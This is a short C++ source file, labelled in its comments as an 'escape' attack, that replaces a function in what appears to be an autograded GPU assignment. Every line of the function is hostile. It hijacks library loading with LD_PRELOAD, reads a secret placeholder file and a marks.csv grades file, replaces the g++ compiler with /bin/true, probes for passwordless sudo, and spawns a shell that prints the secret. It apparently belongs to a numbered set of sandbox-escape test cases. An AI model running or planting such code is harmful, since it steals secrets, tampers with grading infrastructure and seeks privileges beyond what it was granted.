// attack: escape
// root: host
// what: runs programs of the machine, and makes them load its own libraries first
// list: 11
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  setenv("LD_PRELOAD", "/box/libcudart.so", 1);
  setenv("LD_LIBRARY_PATH", "/box", 1);
  if (system("cat @SECRET@ @OUT@/marks.csv; cp /bin/true /usr/bin/g++; sudo -n id") < 0) abort();
  dlopen("/box/libcudart.so", RTLD_NOW);
  execl("/bin/sh", "sh", "-c", "cat @SECRET@ >&2; exit 9", nullptr);
  _exit(9);
}
